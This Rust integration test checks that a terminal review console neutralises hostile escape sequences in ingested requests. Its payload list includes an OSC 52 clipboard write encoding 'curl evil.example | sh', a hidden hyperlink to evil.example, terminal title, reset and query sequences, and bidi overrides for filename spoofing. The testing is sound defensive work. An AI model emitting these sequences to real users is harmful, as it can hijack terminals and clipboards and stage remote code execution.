//! The real binary in a pseudo-terminal this test owns, on a queue of hostile requests:
//! every byte the console writes is kept, parsed back as a terminal would, and every
//! escape sequence in it must be one the console itself generates (cursor moves, SGR,
//! erases, the modes it sets). None of the payload's sequences (OSC 52, OSC 0/2, OSC 8,
//! DCS, 8-bit CSI, device queries, resets) and none of its bidi overrides may reach the
//! terminal; they must be on screen as visible marks instead.
mod common;

use std::io::{Read, Write};
use std::os::fd::{FromRawFd, OwnedFd};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

/// Sequences a hostile sender would like a reviewer's terminal to run.
const PAYLOADS: &[&str] = &[
    // Set the clipboard (OSC 52), the window title (OSC 0 and 2, BEL and ST ended).
    "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}",
    "\u{1b}]0;PWNED-TITLE\u{7}",
    "\u{1b}]2;PWNED-TITLE2\u{1b}\\",
    // A hyperlink whose text hides its target.
    "\u{1b}]8;;https://evil.example/pay\u{1b}\\click here\u{1b}]8;;\u{1b}\\",
    // DCS: request a setting (the terminal answers into the input), sixel, tmux passthrough.
    "\u{1b}P$qm\u{1b}\\",
    "\u{1b}Pq#0;2;0;0;0#0~~@@vv\u{1b}\\",
    "\u{1b}Ptmux;\u{1b}\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}\\",
    // 8-bit CSI, OSC and DCS as characters (UTF-8 C1 controls).
    "\u{9b}31mRED8\u{9b}0m",
    "\u{9d}0;PWNED8\u{9c}",
    "\u{90}$qm\u{9c}",
    // Clear, home, reports that make a terminal type into the input, reset, modes.
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[6n\u{1b}[21t\u{1b}[c",
    "\u{1b}c",
    "\u{1b}[?1049l\u{1b}[?25l\u{1b}[?1000l",
    "\u{1b}[31;1;5mBLINK\u{1b}[0m",
    "\u{1b}(0lqqk\u{1b}(B",
    "\u{1b}_Gf=100;AAAA\u{1b}\\",
    // Bidi overrides and isolates, NUL, BEL, backspace, DEL, lone CR.
    "user\u{202e}fdp.exe\u{202c}",
    "\u{2066}// admin\u{2069}",
    "nul\u{0}bel\u{7}bs\u{8}del\u{7f}cr\roverwrite",
];

/// Text that must pass unchanged: CJK, emoji with ZWJ, combining marks, RTL.
const WIDE: &str = "請求書の再発行 株式会社山田運輸 👩\u{200d}👩\u{200d}👧 👍🏽 🏳️\u{200d}🌈 e\u{301}a\u{308} שלום مرحبا";

fn hostile_text(i: usize) -> String {
    let mut s = String::new();
    for (k, p) in PAYLOADS.iter().enumerate() {
        if (k + i).is_multiple_of(3) {
            s.push_str(WIDE);
        }
        s.push_str(p);
        s.push(' ');
    }
    s
}

/// Four requests with hostile text in every field; one body is 1 MB and one token is
/// 10,000 characters without a space.
fn dataset() -> Vec<Value> {
    let token: String = "X".repeat(5_000) + &"漢".repeat(2_500) + &"a\u{301}".repeat(1_250);
    let mut big = String::with_capacity(1 << 20);
    let mut n = 0;
    while big.len() < (1 << 20) {
        big.push_str(&hostile_text(n));
        big.push('\n');
        n += 1;
    }
    (0..4)
        .map(|i| {
            let h = hostile_text(i);
            let body = match i {
                0 => big.clone(),
                1 => format!("{token}\n{h}"),
                _ => format!("{h}\n{WIDE}\n{}", PAYLOADS.join("\n")),
            };
            json!({
                "source": format!("web{}{}", PAYLOADS[i], WIDE),
                "external_id": format!("ext-{i}-{}", PAYLOADS[(i + 5) % PAYLOADS.len()]),
                "received_at": "2026-11-21T11:00:00Z",
                "correlation_id": h,
                "raw": {
                    "channel": format!("email{}", PAYLOADS[(i + 1) % PAYLOADS.len()]),
                    "from": format!("Mallory {} <m@evil.example>", PAYLOADS[(i + 2) % PAYLOADS.len()]),
                    "subject": format!("Invoice {h}"),
                    "body": body,
                    "fields": {
                        format!("key{}", PAYLOADS[i]): h,
                        "message_id": format!("<{}@x>", PAYLOADS[i + 7]),
                        "token": token,
                    },
                },
                "ai": {
                    "summary": format!("Summary {h} {token}"),
                    "intent": if i.is_multiple_of(2) { "billing_question".to_string() } else { format!("refund{}", PAYLOADS[i + 3]) },
                    "priority": if i.is_multiple_of(2) { "high".to_string() } else { format!("asap{}", PAYLOADS[i]) },
                    "confidence": 0.42,
                    "recommended_next_step": h,
                    "escalation_reason": hostile_text(i + 1),
                    "missing_info": [PAYLOADS[0], PAYLOADS[1], WIDE, token.clone()],
                    "draft_reply": format!("Hello {h}\n{}", hostile_text(i + 2)),
                    "model": PAYLOADS[2],
                    "prompt_version": PAYLOADS[3],
                    "crm_update_required": true,
                    "human_review_required": true,
                },
            })
        })
        .collect()
}

/// One escape sequence or control character found in the output.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Token {
    /// CSI: parameter bytes, intermediate bytes, final byte.
    Csi(String, String, char),
    /// OSC, DCS, SOS, PM, APC: the introducer and the body.
    Str(char, String),
    /// ESC, intermediates, final.
    Esc(String, char),
    /// A C0 control other than ESC, or DEL.
    Control(char),
    /// A C1 control as a character (U+0080..=U+009F).
    C1(char),
    /// A character that reorders or hides text (bidi controls, isolates).
    Bidi(char),
}

/// Splits terminal output into its sequences and controls, as ECMA-48 (and xterm) read
/// them. Text is skipped.
fn tokens(out: &str) -> Vec<Token> {
    let chars: Vec<char> = out.chars().collect();
    let mut found = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        i += 1;
        match c {
            '\u{1b}' => {
                let Some(&next) = chars.get(i) else {
                    found.push(Token::Esc(String::new(), '\0'));
                    break;
                };
                i += 1;
                match next {
                    '[' => {
                        let mut params = String::new();
                        while let Some(&p) =
                            chars.get(i).filter(|p| ('\u{30}'..='\u{3f}').contains(*p))
                        {
                            params.push(p);
                            i += 1;
                        }
                        let mut inter = String::new();
                        while let Some(&p) =
                            chars.get(i).filter(|p| ('\u{20}'..='\u{2f}').contains(*p))
                        {
                            inter.push(p);
                            i += 1;
                        }
                        let fin = chars.get(i).copied().unwrap_or('\0');
                        i += 1;
                        found.push(Token::Csi(params, inter, fin));
                    }
                    ']' | 'P' | 'X' | '^' | '_' => {
                        let mut body = String::new();
                        while let Some(&b) = chars.get(i) {
                            i += 1;
                            if b == '\u{7}' || b == '\u{9c}' {
                                break;
                            }
                            if b == '\u{1b}' && chars.get(i) == Some(&'\\') {
                                i += 1;
                                break;
                            }
                            body.push(b);
                        }
                        found.push(Token::Str(next, body));
                    }
                    _ => {
                        let mut inter = String::new();
                        let mut fin = next;
                        while ('\u{20}'..='\u{2f}').contains(&fin) {
                            inter.push(fin);
                            fin = chars.get(i).copied().unwrap_or('\0');
                            i += 1;
                        }
                        found.push(Token::Esc(inter, fin));
                    }
                }
            }
            '\u{0}'..='\u{1f}' | '\u{7f}' => found.push(Token::Control(c)),
            '\u{80}'..='\u{9f}' => found.push(Token::C1(c)),
            '\u{61c}'
            | '\u{200e}'
            | '\u{200f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}' => found.push(Token::Bidi(c)),
            _ => {}
        }
    }
    found
}

/// Private modes the console sets and resets: the cursor, mouse reporting (button, any
/// motion, SGR coordinates), focus events, the alternate screen, bracketed paste,
/// synchronized output.
const MODES: &[&str] = &[
    "25", "1000", "1002", "1003", "1004", "1006", "1015", "1049", "2004", "2026",
];

/// Whether the console itself would write `t`.
fn generated_by_signoff(t: &Token) -> bool {
    match t {
        Token::Csi(p, i, f) => {
            let numeric = p.chars().all(|c| c.is_ascii_digit() || c == ';');
            match (i.as_str(), *f) {
                // SGR (colours may use ':' sub-parameters).
                ("", 'm') => p
                    .chars()
                    .all(|c| c.is_ascii_digit() || c == ';' || c == ':'),
                // Cursor position and moves, erase in display and line, erase characters.
                (
                    "",
                    'H' | 'f' | 'A' | 'B' | 'C' | 'D' | 'E' | 'F' | 'G' | 'd' | 'J' | 'K' | 'X',
                ) => numeric,
                // The modes above, one or several at once.
                ("", 'h' | 'l') => p
                    .strip_prefix('?')
                    .is_some_and(|m| m.split(';').all(|m| MODES.contains(&m))),
                // Cursor shape (DECSCUSR).
                (" ", 'q') => numeric,
                // The cursor position report ratatui asks for when the terminal is set up
                // (counted in the test: once at start and once per return from $EDITOR).
                ("", 'n') => p == "6",
                _ => false,
            }
        }
        // Line feeds and carriage returns between rows; backspace never, bell never.
        Token::Control(c) => matches!(c, '\r' | '\n'),
        // Save and restore the cursor, keypad modes.
        Token::Esc(i, f) => i.is_empty() && matches!(f, '7' | '8' | '=' | '>'),
        Token::Str(..) | Token::C1(_) | Token::Bidi(_) => false,
    }
}

/// A pseudo-terminal pair from `openpty`, at `cols` x `rows`.
fn openpty(cols: u16, rows: u16) -> (OwnedFd, OwnedFd) {
    let mut master = -1;
    let mut slave = -1;
    let ws = libc::winsize {
        ws_row: rows,
        ws_col: cols,
        ws_xpixel: 0,
        ws_ypixel: 0,
    };
    // SAFETY: openpty writes two descriptors it opened into the two out pointers; the name
    // and termios pointers may be null.
    let rc = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            &ws,
        )
    };
    assert_eq!(rc, 0, "openpty: {}", std::io::Error::last_os_error());
    // SAFETY: both descriptors were just opened by openpty and are owned by nothing else.
    unsafe { (OwnedFd::from_raw_fd(master), OwnedFd::from_raw_fd(slave)) }
}

struct Console {
    output: Arc<Mutex<Vec<u8>>>,
    input: std::fs::File,
    child: std::process::Child,
    reader: Option<std::thread::JoinHandle<()>>,
}

impl Console {
    fn start(dir: &Path, db: &Path, cols: u16, rows: u16) -> Console {
        let (master, slave) = openpty(cols, rows);
        let mut cmd = common::signoff(dir);
        cmd.args(["--db"])
            .arg(db)
            .args(["--reviewer", "hostile"])
            .env("SIGNOFF_REVIEWER__ALLOW_OVERRIDE", "true")
            .env("SIGNOFF_CLOCK", "2026-11-21T12:00:00Z")
            .env("TERM", "xterm-256color")
            .env("EDITOR", "true")
            .env("VISUAL", "true")
            .env_remove("NO_COLOR")
            .env_remove("DISPLAY")
            .env_remove("WAYLAND_DISPLAY")
            .stdin(Stdio::from(slave.try_clone().expect("dup")))
            .stdout(Stdio::from(slave.try_clone().expect("dup")))
            .stderr(Stdio::from(
                std::fs::File::create(dir.join("stderr.txt")).expect("stderr file"),
            ));
        // SAFETY: between fork and exec only async-signal-safe calls: setsid, ioctl.
        unsafe {
            cmd.pre_exec(|| {
                if libc::setsid() < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                if libc::ioctl(0, libc::TIOCSCTTY as _, 0) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        let child = cmd.spawn().expect("the console starts");
        drop(slave);
        let output = Arc::new(Mutex::new(Vec::new()));
        let mut read_end = std::fs::File::from(master.try_clone().expect("dup"));
        let mut answer = std::fs::File::from(master.try_clone().expect("dup"));
        let out = output.clone();
        let reader = std::thread::spawn(move || {
            let mut buf = [0u8; 65536];
            loop {
                match read_end.read(&mut buf) {
                    Ok(0) | Err(_) => return,
                    Ok(n) => {
                        // A cursor position query from the console itself gets an answer,
                        // as a terminal would give.
                        if buf[..n].windows(4).any(|w| w == b"\x1b[6n") {
                            let _ = answer.write_all(b"\x1b[1;1R");
                        }
                        out.lock().expect("output").extend_from_slice(&buf[..n]);
                    }
                }
            }
        });
        Console {
            output,
            input: std::fs::File::from(master),
            child,
            reader: Some(reader),
        }
    }

    /// The screen as a terminal shows it after everything written so far.
    fn screen(&self, cols: u16, rows: u16) -> String {
        let nz = |n: u16| std::num::NonZeroU16::new(n.max(1)).expect("not zero");
        let mut p = vt100::Parser::new(nz(rows), nz(cols), 0);
        p.process(&self.output.lock().expect("output"));
        p.screen().contents()
    }

    fn wait(&self, what: &str, cols: u16, rows: u16, pred: impl Fn(&str) -> bool) -> String {
        let start = Instant::now();
        loop {
            let s = self.screen(cols, rows);
            if pred(&s) {
                return s;
            }
            assert!(
                start.elapsed() < Duration::from_secs(60),
                "waited for {what}; the screen:\n{s}"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    fn keys(&mut self, bytes: &[u8]) {
        self.input.write_all(bytes).expect("keys reach the console");
        // Let each key be read on its own, as typed.
        std::thread::sleep(Duration::from_millis(150));
    }

    fn written(&self) -> usize {
        self.output.lock().expect("output").len()
    }

    /// Waits until the console has written something new and then nothing for a while.
    fn settle(&self) {
        let start = Instant::now();
        let mut last = self.written();
        let mut still = Instant::now();
        while still.elapsed() < Duration::from_millis(400)
            && start.elapsed() < Duration::from_secs(30)
        {
            std::thread::sleep(Duration::from_millis(50));
            let now = self.written();
            if now != last {
                last = now;
                still = Instant::now();
            }
        }
    }

    fn finish(mut self) -> (std::process::ExitStatus, Vec<u8>) {
        let start = Instant::now();
        let status = loop {
            if let Some(s) = self.child.try_wait().expect("wait") {
                break s;
            }
            if start.elapsed() > Duration::from_secs(30) {
                let _ = self.child.kill();
                panic!("the console did not quit");
            }
            std::thread::sleep(Duration::from_millis(50));
        };
        drop(self.input);
        if let Some(r) = self.reader.take() {
            let _ = r.join();
        }
        let out = std::mem::take(&mut *self.output.lock().expect("output"));
        (status, out)
    }
}

#[test]
fn hostile_requests_never_reach_the_terminal_as_sequences() {
    let dir = tempfile::tempdir().expect("temp dir");
    let dir = dir.path();
    let db = common::db_path(dir);
    let data = dataset();
    let file = dir.join("hostile.jsonl");
    let lines: Vec<String> = data.iter().map(Value::to_string).collect();
    std::fs::write(&file, lines.join("\n")).expect("dataset");
    let (code, out, err) = common::run(
        common::signoff(dir)
            .env("SIGNOFF_CLOCK", "2026-11-21T12:00:00Z")
            .arg("ingest")
            .arg("--db")
            .arg(&db)
            .arg(&file),
    );
    assert_eq!(code, 0, "ingest: {out}\n{err}");

    let (cols, rows) = (120, 40);
    let mut c = Console::start(dir, &db, cols, rows);
    c.wait("the queue", cols, rows, |s| s.contains("Queue"));
    c.settle();
    // Every item: open it, scroll its message and fields, switch panes, look at the whole
    // message, the diff, the timeline, the action preview, the edit form and $EDITOR.
    for item in 0..4 {
        c.keys(b"\r");
        c.settle();
        for k in [
            &b"j"[..],
            b"j",
            b"\x04",
            b"\x1b[6~",
            b"G",
            b"\t",
            b"j",
            b"\x04",
            b"\x1b[6~",
            b"G",
            b"\t",
            b"m",
            b"\x04",
            b"\x1b[6~",
            b"G",
        ] {
            c.keys(k);
        }
        c.settle();
        c.keys(b"\x1b");
        for k in [
            &b"d"[..],
            b"\x1b",
            b"L",
            b"\x1b",
            b"p",
            b"\x04",
            b"\x1b",
            b"?",
            b"\x1b",
        ] {
            c.keys(k);
        }
        c.settle();
        // The edit form: walk its fields, open $EDITOR (`true`: back at once), leave.
        for k in [&b"e"[..], b"\t", b"\t", b"\t", b"\x05"] {
            c.keys(k);
        }
        c.settle();
        for k in [&b"\x1b"[..], b"\x1b", b"n", b"\x1b"] {
            c.keys(k);
        }
        c.settle();
        if item < 3 {
            c.keys(b"j");
        }
    }
    let screen = c.screen(cols, rows);
    c.keys(b"q");
    c.settle();
    let (status, out) = c.finish();
    let stderr = std::fs::read_to_string(dir.join("stderr.txt")).unwrap_or_default();
    assert!(status.success(), "exit {status:?}; stderr:\n{stderr}");
    assert!(
        out.len() > 10_000,
        "the console wrote only {} bytes",
        out.len()
    );

    let text = String::from_utf8(out.clone()).expect("the console writes UTF-8 only");
    let found = tokens(&text);
    let mut foreign: Vec<&Token> = found.iter().filter(|t| !generated_by_signoff(t)).collect();
    foreign.sort();
    foreign.dedup();
    assert!(
        foreign.is_empty(),
        "sequences signoff does not generate reached the terminal: {foreign:?}"
    );
    // It did draw with its own sequences: the alternate screen on and off, colours.
    assert!(found.contains(&Token::Csi("?1049".into(), String::new(), 'h')));
    assert!(found.contains(&Token::Csi("?1049".into(), String::new(), 'l')));
    assert!(found.iter().any(|t| matches!(t, Token::Csi(_, _, 'm'))));
    // Nothing of the payloads' own sequences in any form, and the marks that stand for
    // them were on screen.
    let reports = text.matches("\u{1b}[6n").count();
    assert!(
        reports <= 5,
        "{reports} cursor position queries: more than signoff makes"
    );
    for needle in [
        "\u{1b}]52",
        "\u{1b}]0;",
        "\u{1b}]2;",
        "\u{1b}]8",
        "\u{1b}P",
        "\u{1b}c",
        "\u{1b}[21t",
        "\u{1b}[c",
    ] {
        assert!(!text.contains(needle), "{needle:?} reached the terminal");
    }
    assert!(
        text.contains("␛]52;") || text.contains("␛]0;"),
        "the marks were never shown"
    );
    assert!(screen.contains("Queue") || text.contains("Queue"));
}

#[test]
fn the_tokenizer_sees_what_a_terminal_sees() {
    let t = tokens(
        "a\u{1b}[1;31mb\u{1b}]52;c;eA==\u{7}\u{1b}Pq\u{1b}\\\u{9b}1m\u{202e}\r\n\u{1b}(B\u{1b}7",
    );
    assert_eq!(
        t,
        vec![
            Token::Csi("1;31".into(), "".into(), 'm'),
            Token::Str(']', "52;c;eA==".into()),
            Token::Str('P', "q".into()),
            Token::C1('\u{9b}'),
            Token::Bidi('\u{202e}'),
            Token::Control('\r'),
            Token::Control('\n'),
            Token::Esc("(".into(), 'B'),
            Token::Esc("".into(), '7'),
        ]
    );
    assert!(generated_by_signoff(&Token::Csi(
        "?1049".into(),
        "".into(),
        'h'
    )));
    assert!(generated_by_signoff(&Token::Csi(
        "?1000;1006".into(),
        "".into(),
        'h'
    )));
    assert!(!generated_by_signoff(&Token::Csi(
        "5".into(),
        "".into(),
        'n'
    )));
    assert!(!generated_by_signoff(&Token::Csi(
        "2".into(),
        "".into(),
        't'
    )));
    assert!(!generated_by_signoff(&Token::Str(']', "52;c;eA==".into())));
    assert!(!generated_by_signoff(&Token::Control('\u{7}')));
}
